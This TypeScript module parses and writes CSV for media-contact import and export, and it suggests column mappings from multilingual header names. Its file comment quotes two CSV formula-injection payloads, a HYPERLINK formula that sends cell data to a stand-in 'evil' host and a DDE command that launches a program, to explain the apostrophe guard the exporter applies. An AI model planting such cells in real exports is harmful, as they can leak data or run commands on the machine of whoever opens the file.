/**
 * CSV for media-list import and export (RFC 4180, plus what spreadsheet
 * programs actually write).
 *
 * Reading is lenient where files in the wild disagree with the RFC and strict
 * only where guessing would shift data between columns:
 * - CRLF, LF and a lone CR (old Mac Excel) all end a record; line breaks inside
 *   quotes are kept as written.
 * - European Excel writes ";" (the decimal comma takes ","), so without an
 *   explicit delimiter the header line decides between ",", ";" and TAB.
 * - A UTF-8 byte order mark (which Excel needs to read UTF-8) is skipped, and
 *   so is Excel's "sep=;" first line, after taking the delimiter from it.
 * - A quote inside an unquoted value is kept as a character (`5" floppy`), and
 *   text after a closing quote is appended (`"abc"def` → `abcdef`), as Excel
 *   reads them. A quoted value that is never closed is an error, because
 *   every later column would be wrong.
 * - Completely empty lines are skipped; rows keep the number of values they
 *   have (no padding), so the caller can report short or long rows.
 *
 * Formula injection (CSV injection, OWASP): a spreadsheet treats a cell that
 * starts with = + - @ (and, in some programs, TAB or CR before them) as a
 * formula, so a journalist's "name" of `=HYPERLINK("http://evil/?"&A1,"x")` or
 * `=cmd|' /C calc'!A0` would run in the press officer's Excel when they open
 * an export. `toCsv` therefore prefixes such a cell with an apostrophe, the
 * spreadsheet convention for "this is text". To keep export → import lossless,
 * it also prefixes a cell that already starts with apostrophes followed by one
 * of those characters, and `parseCsv` removes exactly one leading apostrophe
 * from such a cell (which also cleans `'+41 78 …` typed by people who know the
 * trick).
 */
import { AppError } from '../errors';
import { foldForSearch } from './search-text';

export type CsvDelimiter = ',' | ';' | '\t';

export interface ParseCsvOptions {
  /** Field separator; detected from the header line when omitted. */
  delimiter?: CsvDelimiter;
  /** Keep the apostrophe of formula-guarded cells (`'=1+1`) instead of removing it. */
  keepFormulaGuards?: boolean;
}

export interface ParsedCsv {
  /** The first record, each name trimmed; empty when the text has no records. */
  header: string[];
  /** Every later record that is not an empty line. */
  rows: { line: number; values: string[] }[];
  /** The separator used, detected or given. */
  delimiter: CsvDelimiter;
}

export interface ToCsvOptions {
  /** Field separator; "," unless the file is meant for a ";" locale. */
  delimiter?: CsvDelimiter;
  /**
   * Start with U+FEFF. Excel on Windows reads a CSV without it in the local
   * ANSI code page, turning "Müller" into "MÃ¼ller"; downloads meant for
   * spreadsheets should set it.
   */
  byteOrderMark?: boolean;
}

/** Characters that make a spreadsheet read a cell as a formula (OWASP CSV injection). */
const FORMULA_GUARD_NEEDED = /^'*[=+\-@\t\r]/;
/** A cell `toCsv` (or a careful person) guarded: one apostrophe too many. */
const FORMULA_GUARDED = /^'+[=+\-@\t\r]/;

/** "sep=;" (or "," or TAB) alone on the first line, as Excel writes and reads it. */
const SEPARATOR_HINT = /^sep=([,;\t])(?:\r\n|\r|\n|$)/i;

const QUOTE = 34; // "
const CARRIAGE_RETURN = 13;
const LINE_FEED = 10;

/**
 * Parses CSV text into a header and rows.
 *
 * Guarantees: `rows[i].line` is the 1-based physical line on which the record
 * starts (line breaks inside quoted values count, CRLF counts once), so error
 * messages can point into the file as an editor shows it; values are exactly
 * as written except that doubled quotes become one, the enclosing quotes go,
 * and one formula-guard apostrophe is removed (see the file comment);
 * `parseCsv(toCsv(header, rows))` gives back `header` and `rows`, with null
 * and undefined as "", header names trimmed, and a row that is one empty value
 * (which is an empty line) left out.
 *
 * Throws `AppError('VALIDATION_FAILED')` with `details.line` when a quoted
 * value is never closed.
 */
export function parseCsv(text: string, options: ParseCsvOptions = {}): ParsedCsv {
  const { delimiter, records } = readCsvRecords(text, options);
  return collectParsedCsv([...records], delimiter);
}

/**
 * parseCsv for large files in the server process: the same result, read in
 * slices that let other requests run in between (`pause`, see
 * common/yield-to-event-loop.ts); `onRecord` is told how many records were read.
 */
export async function parseCsvInSlices(
  text: string,
  options: ParseCsvOptions & { pause: () => Promise<void>; onRecord?: (count: number) => void },
): Promise<ParsedCsv> {
  const { delimiter, records } = readCsvRecords(text, options);
  const all: CsvRecord[] = [];
  for (const record of records) {
    all.push(record);
    if (all.length % 1_000 === 0) options.onRecord?.(all.length);
    await options.pause();
  }
  return collectParsedCsv(all, delimiter);
}

type CsvRecord = { line: number; values: string[] };

function collectParsedCsv(records: CsvRecord[], delimiter: CsvDelimiter): ParsedCsv {
  const [headerRecord, ...rows] = records;
  return { header: (headerRecord?.values ?? []).map((name) => name.trim()), rows, delimiter };
}

/** The delimiter, and the records one at a time (the header first); see parseCsv for the guarantees. */
function readCsvRecords(text: string, options: ParseCsvOptions): { delimiter: CsvDelimiter; records: Generator<CsvRecord> } {
  const withoutMark = text.charCodeAt(0) === 0xfeff ? text.slice(1) : text;
  // Excel's "sep=;" first line names the delimiter; it is not part of the data.
  const separatorHint = SEPARATOR_HINT.exec(withoutMark);
  const source = separatorHint ? withoutMark.slice(separatorHint[0].length) : withoutMark;
  const delimiter = options.delimiter ?? (separatorHint?.[1] as CsvDelimiter | undefined) ?? detectDelimiter(source);
  const delimiterCode = delimiter.charCodeAt(0);
  const unguard = options.keepFormulaGuards ? (value: string) => value : removeFormulaGuard;

  return { delimiter, records: generateRecords() };

  function* generateRecords(): Generator<CsvRecord> {
    let position = 0;
    let line = separatorHint ? 2 : 1;
    const length = source.length;
    while (position < length) {
      const recordLine = line;
      const values: string[] = [];
      let sawQuote = false;
      // One field per iteration; the record ends at a line break or the end of the text.
      for (;;) {
        let value: string;
        if (source.charCodeAt(position) === QUOTE) {
          sawQuote = true;
          const quotedStartLine = line;
          let start = position + 1;
          value = '';
          for (;;) {
            const closing = source.indexOf('"', start);
            if (closing === -1) {
              throw new AppError('VALIDATION_FAILED', `Line ${quotedStartLine}: a quoted value is never closed`, {
                details: { line: quotedStartLine },
              });
            }
            const piece = source.slice(start, closing);
            line += countLineBreaks(piece);
            if (source.charCodeAt(closing + 1) === QUOTE) {
              value += piece + '"';
              start = closing + 2;
              continue;
            }
            value += piece;
            position = closing + 1;
            break;
          }
          // Lenient: anything between the closing quote and the delimiter is kept.
          const rest = position;
          while (position < length && !isFieldEnd(source.charCodeAt(position), delimiterCode)) position += 1;
          value += source.slice(rest, position);
        } else {
          const start = position;
          while (position < length && !isFieldEnd(source.charCodeAt(position), delimiterCode)) position += 1;
          value = source.slice(start, position);
        }
        values.push(unguard(value));

        const next = source.charCodeAt(position);
        if (next === delimiterCode) {
          position += 1;
          continue;
        }
        if (next === CARRIAGE_RETURN) {
          position += source.charCodeAt(position + 1) === LINE_FEED ? 2 : 1;
          line += 1;
        } else if (next === LINE_FEED) {
          position += 1;
          line += 1;
        }
        break;
      }
      const isEmptyLine = values.length === 1 && values[0] === '' && !sawQuote;
      if (!isEmptyLine) yield { line: recordLine, values };
    }

  }
}

/**
 * Writes CSV: one record per line, CRLF line ends (RFC 4180) including after
 * the last record. A value is quoted when it contains a quote (doubled), a
 * delimiter (",", ";" or TAB, so it also survives a spreadsheet that guesses
 * the other separator), a line break, or white space at either end; null and
 * undefined are empty. Cells a spreadsheet would run as a formula get a
 * leading apostrophe (see the file comment); `parseCsv` removes it again.
 */
export function toCsv(
  header: readonly string[],
  rows: readonly (readonly (string | null | undefined)[])[],
  options: ToCsvOptions = {},
): string {
  const delimiter = options.delimiter ?? ',';
  const lines = [header, ...rows].map((record) => record.map(formatCsvValue).join(delimiter) + '\r\n');
  return (options.byteOrderMark ? '\uFEFF' : '') + lines.join('');
}

function formatCsvValue(value: string | null | undefined): string {
  if (value === null || value === undefined || value === '') return '';
  const guarded = FORMULA_GUARD_NEEDED.test(value) ? `'${value}` : value;
  const needsQuotes = /[",;\t\r\n]/.test(guarded) || /^\s|\s$/.test(guarded);
  return needsQuotes ? `"${guarded.replace(/"/g, '""')}"` : guarded;
}

function removeFormulaGuard(value: string): string {
  return FORMULA_GUARDED.test(value) ? value.slice(1) : value;
}

function isFieldEnd(code: number, delimiterCode: number): boolean {
  return code === delimiterCode || code === LINE_FEED || code === CARRIAGE_RETURN;
}

/** CRLF counts as one break, like a lone CR or LF. */
function countLineBreaks(text: string): number {
  let count = 0;
  for (let index = 0; index < text.length; index += 1) {
    const code = text.charCodeAt(index);
    if (code === LINE_FEED) count += 1;
    else if (code === CARRIAGE_RETURN && text.charCodeAt(index + 1) !== LINE_FEED) count += 1;
  }
  return count;
}

/**
 * Picks the separator that occurs most often outside quotes in the first
 * record; "," on a tie or when there is none (a one-column file).
 */
function detectDelimiter(text: string): CsvDelimiter {
  const counts = { ',': 0, ';': 0, '\t': 0 };
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index]!;
    if (character === '"') quoted = !quoted;
    else if (!quoted && (character === '\n' || character === '\r')) break;
    else if (!quoted && (character === ',' || character === ';' || character === '\t')) counts[character] += 1;
  }
  if (counts[';'] > counts[','] && counts[';'] >= counts['\t']) return ';';
  if (counts['\t'] > counts[','] && counts['\t'] > counts[';']) return '\t';
  return ',';
}

/** The media-contact fields an import column can fill. */
export const contactFields = [
  'name',
  'givenName',
  'familyName',
  'email',
  'phone',
  'whatsapp',
  'outlet',
  'role',
  'languages',
  'country',
  'timeZone',
  'notes',
  'tags',
] as const;
export type ContactField = (typeof contactFields)[number];

/**
 * Header names as they appear in exports from Outlook, Google Contacts, press
 * databases and hand-made sheets, in English, French, German and Spanish,
 * most specific first. Compared after `normalizeHeaderName`, so accents, case,
 * spaces, punctuation and numbering ("E-mail 1 - Value") do not matter.
 */
const HEADER_SYNONYMS: Record<ContactField, readonly string[]> = {
  name: [
    'name', 'full name', 'display name', 'contact', 'contact name', 'journalist', 'reporter',
    'nom', 'nom complet', 'nom et prenom', 'prenom et nom', 'vollstandiger name', 'kontakt',
    'nombre', 'nombre completo', 'nombre y apellidos',
  ],
  givenName: ['first name', 'given name', 'forename', 'prenom', 'vorname', 'nombre de pila'],
  familyName: ['last name', 'surname', 'family name', 'nom de famille', 'nachname', 'familienname', 'apellido', 'apellidos'],
  email: [
    'email', 'email address', 'mail', 'e mail address', 'courriel', 'adresse email', 'adresse electronique',
    'adresse courriel', 'email adresse', 'mailadresse', 'correo', 'correo electronico',
  ],
  // Mobile first: it is the number that reaches a journalist away from the desk.
  phone: [
    'mobile', 'mobile phone', 'mobile number', 'cell', 'cell phone', 'cellphone', 'handy', 'handynummer', 'mobil',
    'mobilnummer', 'mobiltelefon', 'portable', 'telephone portable', 'movil', 'celular',
    'phone', 'phone number', 'telephone', 'telephone number', 'tel', 'numero de telephone', 'telefon',
    'telefonnummer', 'telefono', 'numero de telefono',
  ],
  whatsapp: ['whatsapp', 'whatsapp number', 'numero whatsapp', 'whatsapp nummer'],
  outlet: [
    'outlet', 'media', 'media outlet', 'medias', 'publication', 'organisation', 'organization', 'organization name',
    'company', 'newspaper', 'station', 'medium', 'medien', 'redaktion', 'zeitung', 'verlag', 'firma',
    'societe', 'entreprise', 'journal', 'media organisation', 'medio', 'medios', 'publicacion', 'empresa',
  ],
  // Ranked: "title" is last because Outlook's "Title" column is the salutation.
  role: [
    'role', 'beat', 'job title', 'organization title', 'position', 'desk', 'fonction', 'poste', 'rubrique', 'titre',
    'funktion', 'ressort', 'berufsbezeichnung', 'cargo', 'puesto', 'seccion', 'title',
  ],
  languages: ['language', 'languages', 'lang', 'langue', 'langues', 'sprache', 'sprachen', 'idioma', 'idiomas'],
  country: ['country', 'country region', 'pays', 'land', 'pais', 'nation'],
  timeZone: ['time zone', 'timezone', 'tz', 'fuseau horaire', 'fuseau', 'zeitzone', 'zona horaria', 'huso horario'],
  notes: [
    'notes', 'note', 'comments', 'comment', 'remarks', 'remarques', 'remarque', 'commentaire', 'commentaires',
    'bemerkungen', 'bemerkung', 'notizen', 'notiz', 'anmerkungen', 'notas', 'nota', 'comentarios', 'observaciones',
  ],
  tags: [
    'tags', 'tag', 'labels', 'label', 'categories', 'category', 'groups', 'group membership', 'etiquettes',
    'etiquette', 'mots cles', 'schlagworter', 'schlagwort', 'gruppen', 'kategorien', 'etiquetas', 'categorias',
  ],
};

/** Words that number or qualify a column without changing its meaning ("E-mail 1 - Value", "Primary Phone"). */
const HEADER_NOISE_WORDS = new Set([
  'value', 'primary', 'principal', 'main', 'business', 'work', 'home', 'private', 'privat', 'personal', 'other',
]);

/** Normalised header name → field, and its rank among that field's synonyms (0 is the most specific). */
const synonymLookup = new Map<string, { field: ContactField; rank: number }>();
for (const field of contactFields) {
  HEADER_SYNONYMS[field].forEach((synonym, rank) => synonymLookup.set(normalizeHeaderName(synonym), { field, rank }));
}

/**
 * Suggests which contact field each column fills, for the import screen to
 * pre-select. Keys are the header names as given; a column nobody recognises
 * maps to null.
 *
 * Guarantees: each field is suggested for at most one column. When several
 * columns match one field, the most specific name wins (synonyms are ranked:
 * Outlook's "Job Title" beats its "Title", which holds "Mr."/"Ms."), then the
 * leftmost; the others map to null for the person to choose. A repeated header
 * name keeps the suggestion of its first occurrence. Only suggests, never decides.
 */
export function suggestColumnMapping(header: readonly string[]): Record<string, ContactField | null> {
  const best = new Map<ContactField, { column: number; rank: number }>();
  header.forEach((name, column) => {
    const match = synonymLookup.get(normalizeHeaderName(name));
    if (!match) return;
    const current = best.get(match.field);
    if (!current || match.rank < current.rank) best.set(match.field, { column, rank: match.rank });
  });
  const fieldByColumn = new Map([...best].map(([field, { column }]) => [column, field]));
  const mapping: Record<string, ContactField | null> = {};
  header.forEach((name, column) => {
    if (!Object.hasOwn(mapping, name)) mapping[name] = fieldByColumn.get(column) ?? null;
  });
  return mapping;
}

/**
 * "E-mail 1 - Value" → "email", "Language(s)" → "languages", "Téléphone" →
 * "telephone": folded, digits and noise words dropped, the remaining words
 * joined without separators so "E-mail", "Email" and "E mail" meet.
 */
function normalizeHeaderName(name: string): string {
  const words = foldForSearch(name)
    .replace(/\(s\)/g, 's')
    .split(/[^\p{L}]+/u)
    .filter((word) => word !== '' && !HEADER_NOISE_WORDS.has(word));
  return words.join('');
}
